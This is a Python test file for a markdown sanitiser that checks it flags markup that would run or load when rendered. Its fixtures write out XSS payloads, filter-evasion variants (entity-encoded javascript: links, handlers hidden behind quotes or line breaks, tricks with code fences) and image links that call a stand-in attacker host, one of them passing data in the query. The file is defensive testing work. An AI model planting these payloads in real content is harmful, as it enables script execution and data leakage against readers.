"""Active markup: what a reader of markdown would run or load, and what is only written about."""

from __future__ import annotations

from time import process_time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from muniment.content.markdown import active_markup, without_code

ACTIVE = {
    "a script": "<script>alert(1)</script>",
    "a script over lines": "<script\n>alert(1)</script>",
    "a frame": '<iframe src="a.html">',
    "a style sheet": "<style>@import 'a'</style>",
    "a handler": "<img src=x onerror=alert(1)>",
    "a handler behind a slash": "<svg/onload=alert(1)>",
    "a handler behind a bracket in quotes": '<a title=">" onclick=x>b</a>',
    "a handler behind a stray quote": '<div b=c"d title=">" onclick=x>',
    "a handler behind a line break": "<b\nonmouseover\n=x>",
    "a handler of its own": "<xyz onfocus=x tabindex=1>",
    "an object": '<object data="a.swf">',
    "a form": "<form action=a.php>",
    "a refresh": '<meta http-equiv=refresh content="0;url=//evil.example">',
    "a base": '<base href="//evil.example/">',
    "a linked sheet": "<link rel=stylesheet href=a.css>",
    "a video": '<video autoplay src="a.mp4">',
    "an image from elsewhere": '<img src="https://evil.example/a.png">',
    "an image in capitals": "<IMG SRC=HTTP://EVIL.EXAMPLE/A.PNG>",
    "an image without a scheme": "<img src=//evil.example/a.png>",
    "an image among several": '<img srcset="a.png, https://evil.example/b.png 2x">',
    "an image of a drawing": '<svg><image href="https://evil.example/a.png"/></svg>',
    "a reused drawing": '<svg><use xlink:href="https://evil.example/a.svg#x"/></svg>',
    "a background": '<p style="background:url(//evil.example/a)">',
    "a background in escapes": r'<p style="background:\75rl(//evil.example/a)">',
    "a running address": '<a href="javascript:alert(1)">b</a>',
    "a running address in entities": '<a href=" &#x6a;avascript&colon;alert(1)">b</a>',
    "a running address over lines": '<a href="java\nscript:alert(1)">b</a>',
    "a markdown image": "![](https://evil.example/?q=data)",
    "a markdown image in brackets": "![a](<https://evil.example/a.png>)",
    "a markdown image without a scheme": "![a](//evil.example/a.png)",
    "a markdown image of a share": r"![a](\\evil.example\a.png)",
    "a markdown image with brackets": "![a [b] c](https://evil.example/a.png)",
    "a markdown image with code": "![`]`](https://evil.example/a.png)",
    "a markdown image with an escape": r"![a \] b](https\://evil.example/a.png)",
    "a markdown image over lines": "![a\nb](\nhttps://evil.example/a.png)",
    "a markdown image with a link": "![a [b](c) d](https://evil.example/a.png)",
    "a badge": "[![build](https://evil.example/a.svg)](docs/ci.md)",
    "an embedded image": "![a](data:image/png;base64,AAAA)",
    "an image by reference": "![a][b]\n\n[b]: https://evil.example/a.png",
    "an image by its own name": "![a]\n\n[a]: https://evil.example/a.png",
    "a running link": "[a](javascript:alert(1))",
    "a running link in capitals": "[a](JaVaScRiPt:alert(1))",
    "a running link in entities": "[a](&#106;avascript&#58;alert(1))",
    "a running link behind a blank": "[a]( <javascript:alert(1)>)",
    "a running link with an escape": r"[a](javascript\:alert(1))",
    "a running link by reference": "[a]\n\n[a]: vbscript:x",
    "a running autolink": "<javascript:alert(1)>",
    "a link that embeds": "[a](data:text/html;base64,AAAA)",
    "an entity": "<!DOCTYPE a [<!ENTITY b SYSTEM 'c'>]>",
    "a fence that readers run": "```dataviewjs\ndv.view('a')\n```",
    "a drawing with HTML": '```mermaid\na["<img src=x onerror=alert(1)>"]\n```',
}

SHOWN = "<script>alert(1)</script>"
NO_CODE = {
    "an open fence": f"```\n{SHOWN}",
    "a fence closed by another": f"```\n{SHOWN}\n~~~",
    "a fence closed by a shorter one": f"````\n{SHOWN}\n```",
    "a fence in a quotation": f"> ```\n{SHOWN}\n> ```",
    "a fence in a list": f"- a\n  ```\n{SHOWN}\n  ```",
    "a fence behind blanks": f"    ```\n{SHOWN}\n    ```",
    "a fence with a tick in its language": f"``` a`b\n{SHOWN}\n```",
    "a fence in a block of HTML": f"<div>\n```\n{SHOWN}\n```\n</div>",
    "a fence in a comment": f"<!--\n```\n-->\n{SHOWN}\n```",
    "a fence that looks closed": f"```\na\n ```b\n{SHOWN}\n```",
    "a fence from front matter": f"---\nname: |\n  a\n```\n---\n{SHOWN}\n```\n",
    "a fence from front matter that is too long": f"---\n```\n{'a: b' * 3000}\n---\n{SHOWN}\n```\n",
    "an escaped tick": f"\\`{SHOWN}`",
    "ticks on two lines": f"`a\n` {SHOWN} `",
    "ticks of two lengths": f"`` {SHOWN} `",
    "ticks in an attribute": f'<a title="`">{SHOWN}`',
    "ticks in an attribute above": f'<a title="\n`">{SHOWN}`',
    "ticks in two cells": f"| a | b |\n|---|---|\n| ` | {SHOWN} ` |\n| ` {SHOWN} | ` |",
    "indented text": f"    {SHOWN}",
}

INERT = {
    "prose": "if a < b and c > d, then on = 1",
    "generics": "List<T>, Map<String, Object> and Result<T, E> are returned",
    "placeholders": "git clone <source> <target> && cd <name>",
    "tags without attributes": "<b>bold</b><br><details><summary>more</summary>a</details><kbd>Esc</kbd>",
    "a link": "[a](https://example.com/?q=1) <https://example.com> https://example.com",
    "a link in HTML": '<a href="https://example.com">a</a>',
    "a link by reference": "[a][b] and [b]\n\n[b]: https://example.com",
    "a mail address": "<me@example.com>",
    "a local image": "![diagram](img/a.png)",
    "a local image in HTML": '<img src="img/a.png" alt="a" width=10>',
    "a local image beside a link": "![a](a.png) and [b](https://example.com)",
    "a local image by reference": "![a][b]\n\n[b]: img/a.png",
    "an exclamation": "Done! [a](https://example.com)",
    "a span": f"`{SHOWN}` is refused",
    "a long span": f"`` ` {SHOWN} `` is refused",
    "several spans": f"`{SHOWN}` and `{ACTIVE['a handler']}` and `![](https://evil.example)`",
    "a fence": f"```html\n{SHOWN}\n```\nand text",
    "a fence of tildes": f"~~~\n{SHOWN}\n~~~",
    "a fence with blank lines": f"```\n\n{SHOWN}\n\n```",
    "two fences": f"```\n{SHOWN}\n```\n\ntext\n\n````md\n{SHOWN}\n````",
    "a fence behind front matter": f"---\nname: a\n---\n```\n{SHOWN}\n```\n",
    "a word with a colon": "javascript: addresses are refused; data: see below; file: a.md",
    "a comment": "<!-- toc -->",
    "an arrow": "a --> b <-- c <- d",
    "code in prose": "for (i=0;i<n;i++) once = 3;",
    "shifts": "1 << 3 and a <<= 2",
}


@pytest.mark.threat("T-MEM-02", control="active_markup")
@pytest.mark.parametrize("text", ACTIVE.values(), ids=ACTIVE)
def test_markup_that_runs_or_loads_is_found(text):
    line = active_markup(text)
    assert line is not None
    assert active_markup(f"first line\n\n{text}\n") == line + 2


@pytest.mark.threat("T-MEM-02", control="active_markup")
@pytest.mark.parametrize("text", NO_CODE.values(), ids=NO_CODE)
def test_what_some_reader_takes_for_no_code_is_looked_at(text):
    assert active_markup(text) is not None


@pytest.mark.parametrize("text", INERT.values(), ids=INERT)
def test_what_neither_runs_nor_loads_passes(text):
    assert active_markup(text) is None
    assert active_markup(f"text\n\n{text}\n\ntext `a` b\n") is None


PIECES = st.sampled_from(
    [
        *(
            "```\n",
            "````\n",
            "~~~\n",
            "`",
            "``",
            "\n",
            "\n\n",
            "> ",
            "- ",
            "    ",
            "  ",
            "| ",
            "\\",
            "a",
            " ",
            "<b>",
        ),
        *(
            '<a title="',
            '">',
            "<div>\n",
            "</div>\n",
            "<!--",
            "-->",
            "|---|\n",
            "1. ",
            "```md\n",
            "\r\n",
            "*",
            "[x",
            "](y)",
        ),
    ]
)


@pytest.mark.threat("T-MEM-02", control="active_markup")
@given(st.lists(PIECES, max_size=14), st.lists(PIECES, max_size=10))
def test_a_script_that_another_reader_lets_through_is_found(before, after):
    text = f"{''.join(before)}{SHOWN}{''.join(after)}"
    for reader in (MarkdownIt("commonmark"), MarkdownIt("commonmark").enable("table")):
        if "<script>" in reader.render(text):
            assert active_markup(text) is not None


@given(st.text(st.sampled_from("`~<>!\\|[]() \n\ta"), max_size=60))
def test_lines_keep_their_numbers_when_code_is_blanked(text):
    assert without_code(text).count("\n") == text.count("\n")


HOSTILE = [
    "<",
    "<a ",
    "<a '",
    "![",
    "![]",
    "[",
    "![[",
    "[a]:\n",
    "` `` ``` ",
    "`a` ",
    "```\n",
    "&#x3c;",
    "<a on",
]
HOSTILE += ["<div \n", "](java", "<a style=", "\n", "<script>`", "```\n<script>\n```\n", "`<script>` "]


@pytest.mark.sweep(8)
@pytest.mark.parametrize("unit", HOSTILE)
def test_hostile_markup_costs_time_in_proportion(unit):
    def cost(size):
        text = (unit * (size // len(unit) + 1))[:size] + "<script"
        times = []
        for _ in range(3):
            began = process_time()
            active_markup(text)
            times.append(process_time() - began)
        return min(times)

    assert cost(65_536) < 5 * cost(32_768) + 0.05
